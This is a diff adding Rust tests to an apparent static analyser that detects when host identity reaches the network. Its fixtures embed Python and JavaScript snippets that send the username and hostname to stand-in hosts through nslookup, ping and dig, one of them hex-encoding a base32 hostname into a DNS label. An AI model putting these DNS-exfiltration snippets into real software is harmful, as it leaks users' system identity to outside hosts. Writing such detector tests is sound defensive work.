@@ -341,3 +341,58 @@ fn resolving_the_machines_own_name_is_not_a_beacon() {
     let built = "import socket\nname = f'{socket.gethostname()}.x.example.invalid'\nsocket.gethostbyname(name)\n";
     assert_eq!(py(built).len(), 1, "{:?}", py(built));
 }
+
+#[test]
+fn host_identity_on_a_network_clients_command_line_is_sent() {
+    // A helper runs nslookup with the label its caller built from the user and host names.
+    let text = concat!(
+        "import os, getpass, socket\n",
+        "def _send(label):\n",
+        "    os.system('nslookup ' + label + '.t.example.invalid')\n",
+        "_send(getpass.getuser() + '.' + socket.gethostname())\n",
+    );
+    let found = py(text);
+    assert!(
+        found.iter().any(|f| f.0 == FlowKind::HostInfoToNetwork),
+        "{found:?}"
+    );
+    let argv = "import subprocess, platform\nsubprocess.run(['ping', '-c', '1', platform.node() + '.t.example.invalid'])\n";
+    assert!(py(argv).iter().any(|f| f.0 == FlowKind::HostInfoToNetwork));
+    let node = "const os = require('os');\nconst cp = require('child_process');\ncp.exec(`dig ${os.hostname()}.t.example.invalid`);\n";
+    assert!(js(node).iter().any(|f| f.0 == FlowKind::HostInfoToNetwork));
+}
+
+#[test]
+fn host_identity_handed_to_a_local_program_is_not_a_send() {
+    // The same data on the command line of a program that does not go over the network, or a
+    // client whose program is computed, is not read as a send.
+    let text = concat!(
+        "import os, getpass, subprocess\n",
+        "os.system('echo ' + getpass.getuser() + ' >> build.log')\n",
+        "subprocess.run(['chown', getpass.getuser(), 'out'])\n",
+        "subprocess.run([tool, getpass.getuser()])\n",
+    );
+    assert!(
+        py(text).iter().all(|f| f.0 != FlowKind::HostInfoToNetwork),
+        "{:?}",
+        py(text)
+    );
+}
+
+#[test]
+fn host_identity_spelled_in_hex_digits_still_reaches_a_ping() {
+    // Each character's code in hex, labelled under a zone and handed to ping through the shell.
+    let text = concat!(
+        "import os, base64\n",
+        "data = base64.b32encode(os.uname().nodename.encode()).decode()\n",
+        "label = ''\n",
+        "for c in data[:30]:\n",
+        "    label += '%02x' % ord(c)\n",
+        "os.system('ping -c 1 %s' % (label + '.z.example.invalid'))\n",
+    );
+    let found = py(text);
+    assert!(
+        found.iter().any(|f| f.0 == FlowKind::HostInfoToNetwork),
+        "{found:?}"
+    );
+}
